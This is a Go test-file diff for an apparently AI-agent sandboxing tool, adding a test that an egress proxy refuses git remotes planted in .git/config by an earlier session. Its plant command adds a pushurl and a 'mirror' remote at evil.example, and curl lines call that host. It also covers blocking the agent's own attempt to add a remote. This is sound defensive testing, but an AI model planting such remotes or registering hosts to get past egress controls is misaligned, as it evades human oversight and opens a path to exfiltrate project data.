@@ -9,7 +9,9 @@ import (
 	"net"
 	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync/atomic"
 	"syscall"
@@ -208,7 +210,8 @@ func processesOf(path string) []string {
 }
 
 // TestSessionRecordsItsRemotes: the hosts the egress proxy admits as the project's remotes are
-// the remotes when the session was first seen, kept in its state, where the agent cannot write.
+// the remotes when hookctl first saw a session in the project, kept in its home, where the
+// agent cannot write; the session's state has them too.
 func TestSessionRecordsItsRemotes(t *testing.T) {
 	project := t.TempDir()
 	os.MkdirAll(filepath.Join(project, ".git"), 0o755)
@@ -221,5 +224,89 @@ func TestSessionRecordsItsRemotes(t *testing.T) {
 	sess, err := hook.NewStore(home).Load("remotes-1")
 	if err != nil || strings.Join(sess.Remotes, " ") != "github.com github.com:22" { // an ssh remote: its web ports and its ssh port
 		t.Fatalf("session %+v %v", sess, err)
+	}
+	r, err := hook.NewProjects(home).Load(project)
+	if err != nil || strings.Join(r.Hosts(), " ") != "github.com github.com:22" {
+		t.Fatalf("the project's record: %+v %v", r, err)
+	}
+}
+
+// TestPlantedRemoteOpensNothing (issue 24): an edit-mode command plants a remote in the
+// project's .git/config — a pushurl on origin, a new remote — for the next session, which used
+// to record it as one of the project's remotes at its start and let it through. Run for real,
+// as root and as an unprivileged user: the plant lands (the control: .git/config, as the old
+// session start read it, names both hosts), and in the next session the proxy refuses both as
+// hosts that are not allowed (a remote's host would have been refused only as loopback); the
+// agent cannot add a remote (the hook refuses `hookctl remotes add`, and the sandbox cannot
+// write hookctl's home); doctor and `hookctl remotes` name the planted hosts as not reached;
+// and a host the human adds is reached from then on.
+func TestPlantedRemoteOpensNothing(t *testing.T) {
+	requireTool(t, "curl")
+	requireTool(t, "git")
+	for _, u := range []struct {
+		name string
+		cred *syscall.Credential
+	}{{"root", nil}, {"unprivileged", nobody}} {
+		t.Run(u.name, func(t *testing.T) { plantedRemoteOpensNothing(t, newEditWorld(t, u.cred)) })
+	}
+}
+
+func plantedRemoteOpensNothing(t *testing.T, w *editWorld) {
+	planted := newServer(t)
+	// The human's own remote, added as the user does.
+	if out, err := w.cli("remotes", "add", "github.com", "--project", w.project); err != nil || !strings.Contains(out, "github.com") {
+		t.Fatalf("remotes add: %v %s", err, out)
+	}
+	plant := fmt.Sprintf("git init -q . && git remote add origin https://github.com/o/r.git && "+
+		"git config remote.origin.pushurl http://%s/x.git && git remote add mirror http://evil.example/x.git && echo planted", planted.addr)
+	if out, err := w.run(t, plant); !strings.Contains(out, "planted") {
+		t.Fatalf("the plant: %v %s", err, out)
+	}
+	plantedHost, _, _ := net.SplitHostPort(planted.addr)
+	old := hook.ProjectRemotes(w.project) // what a session's start recorded before
+	if !slices.Contains(old, planted.addr) || !slices.Contains(old, "evil.example") {
+		t.Fatalf("control: .git/config does not name the planted hosts (%q); the test proves nothing", old)
+	}
+	// The next session, which the human starts and takes to edit mode.
+	next := w.session + "-next"
+	start := exec.Command(w.bin, "hook")
+	start.Env, start.SysProcAttr = w.env, &syscall.SysProcAttr{Credential: w.user}
+	start.Stdin = strings.NewReader(`{"session_id":"` + next + `","cwd":"` + w.project + `","hook_event_name":"SessionStart","source":"startup"}`)
+	if out, err := start.CombinedOutput(); err != nil {
+		t.Fatalf("the next session's start: %v %s", err, out)
+	}
+	if out, err := w.cli("readonly", "off", "--session", next); err != nil {
+		t.Fatalf("readonly off: %v %s", err, out)
+	}
+	w.session = next
+	for _, c := range []struct{ script, want string }{
+		{fmt.Sprintf("curl -sS -m 5 --noproxy '' http://%s/x.git/info/refs; echo", planted.addr), planted.addr + " was refused (not an allowed host)"},
+		{"curl -sS -m 5 http://evil.example/x.git/info/refs; echo", "evil.example:80 was refused (not an allowed host)"},
+		{"curl -sS -m 5 https://evil.example/; echo", "evil.example:443 was refused (not an allowed host)"},
+		// The agent adds the host as a remote of its own: the sandbox cannot write the record.
+		{w.bin + " remotes add evil.example; echo status $?", "failed to add evil.example"},
+	} {
+		if out, err := w.run(t, c.script); !strings.Contains(out, c.want) {
+			t.Errorf("%q: %v\n%s\nwant %q", c.script, err, out, c.want)
+		}
+	}
+	if _, refused := w.throughHook(t, "hookctl remotes add evil.example"); !refused {
+		t.Error("the hook let the agent run hookctl remotes add")
+	}
+	if n := planted.hits.Load(); n != 0 {
+		t.Errorf("the planted remote's server was reached %d times", n)
+	}
+	if out, _ := w.cli("remotes", "--project", w.project); !strings.Contains(out, "github.com") || strings.Contains(out, "github.com, "+plantedHost) ||
+		!strings.Contains(out, ".git/config now also names evil.example, which edit mode does not reach") {
+		t.Errorf("hookctl remotes:\n%s", out)
+	}
+	// The human adds the host: from then on the proxy admits it as a remote (and, with no
+	// resolver here, fails to resolve it: it tried).
+	if out, err := w.cli("remotes", "add", "evil.example", "--project", w.project); err != nil {
+		t.Fatalf("remotes add: %v %s", err, out)
+	}
+	if out, _ := w.run(t, "curl -sS -m 5 http://evil.example/; echo"); strings.Contains(out, "not an allowed host") ||
+		!strings.Contains(out, "could not reach evil.example:80") {
+		t.Errorf("after the human added evil.example:\n%s", out)
 	}
 }
